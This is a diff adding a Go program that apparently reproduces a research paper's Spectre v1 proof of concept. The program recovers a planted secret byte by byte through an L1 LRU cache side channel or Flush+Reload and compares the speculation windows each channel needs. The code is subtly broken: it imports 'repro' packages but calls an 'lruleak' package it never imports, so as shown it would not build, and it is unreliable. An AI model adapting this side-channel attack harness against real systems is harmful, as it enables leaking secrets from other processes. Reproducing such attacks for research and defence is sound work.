@@ -1,0 +1,99 @@
+// Command spectrepoc demonstrates Section VIII end to end: a Spectre v1
+// attack that exfiltrates a secret through the L1 LRU channel instead of
+// Flush+Reload, including the randomized-round prefetcher defence of
+// Appendix C. It prints the recovered secret byte by byte and compares the
+// minimum speculation window each disclosure primitive needs.
+package main
+
+import (
+	"flag"
+	"fmt"
+
+	"repro"
+	"repro/internal/spectre"
+)
+
+func main() {
+	var (
+		secretText = flag.String("secret", "THE MAGIC WORDS ARE SQUEAMISH OSSIFRAGE", "secret to plant and recover")
+		disc       = flag.String("disclosure", "lru1", "disclosure primitive: lru1, lru2, frmem, frl1")
+		rounds     = flag.Int("rounds", 8, "randomized measurement rounds per byte")
+		prefetch   = flag.Bool("prefetcher", false, "enable the next-line prefetcher (Appendix C noise)")
+		windows    = flag.Bool("windows", false, "also compare minimum speculation windows")
+		seed       = flag.Uint64("seed", 2020, "experiment seed")
+	)
+	flag.Parse()
+
+	var d spectre.Disclosure
+	switch *disc {
+	case "lru1":
+		d = lruleak.DiscLRUAlg1
+	case "lru2":
+		d = lruleak.DiscLRUAlg2
+	case "frmem":
+		d = lruleak.DiscFRMem
+	case "frl1":
+		d = lruleak.DiscFRL1
+	default:
+		fmt.Printf("unknown disclosure %q\n", *disc)
+		return
+	}
+
+	cfg := lruleak.SpectreConfig{Disclosure: d, Rounds: *rounds, Seed: *seed}
+	if *prefetch {
+		cfg.Prefetcher = lruleak.PrefetchNextLine
+		if cfg.Rounds < 16 {
+			cfg.Rounds = 16 // Appendix C: more rounds to cancel the noise
+		}
+	}
+	if d == lruleak.DiscFRMem {
+		cfg.Window = 300
+	}
+
+	secret := lruleak.EncodeString(*secretText)
+	attack := lruleak.NewSpectre(cfg, secret)
+
+	fmt.Printf("victim secret:   %q (%d bytes over the %d-value alphabet)\n",
+		*secretText, len(secret), lruleak.SpectreAlphabet)
+	fmt.Printf("disclosure:      %v, window %d cycles, %d rounds, prefetcher %v\n",
+		d, cfgWindow(cfg), cfg.Rounds, *prefetch)
+
+	fmt.Print("recovering:      ")
+	got := make([]byte, len(secret))
+	for i := range secret {
+		b, conf := attack.RecoverByte(i)
+		got[i] = b
+		fmt.Printf("%s", lruleak.DecodeString([]byte{b}))
+		_ = conf
+	}
+	fmt.Println()
+
+	correct := 0
+	for i := range got {
+		if got[i] == secret[i] {
+			correct++
+		}
+	}
+	fmt.Printf("recovered:       %q (%d/%d bytes correct)\n",
+		lruleak.DecodeString(got), correct, len(secret))
+
+	if *windows {
+		fmt.Println("\nminimum speculation window per disclosure primitive:")
+		probe := lruleak.EncodeString("AB")
+		for _, c := range []struct {
+			name string
+			d    spectre.Disclosure
+		}{{"LRU Alg.1", lruleak.DiscLRUAlg1}, {"LRU Alg.2", lruleak.DiscLRUAlg2},
+			{"F+R (L1)", lruleak.DiscFRL1}, {"F+R (mem)", lruleak.DiscFRMem}} {
+			w := spectre.MinimumWindow(lruleak.SpectreConfig{Disclosure: c.d, Seed: *seed}, probe, 1.0, 4, 400)
+			fmt.Printf("  %-10s %4d cycles\n", c.name, w)
+		}
+	}
+}
+
+func cfgWindow(cfg lruleak.SpectreConfig) int {
+	if cfg.Window != 0 {
+		return cfg.Window
+	}
+	return 30 // the package default
+}
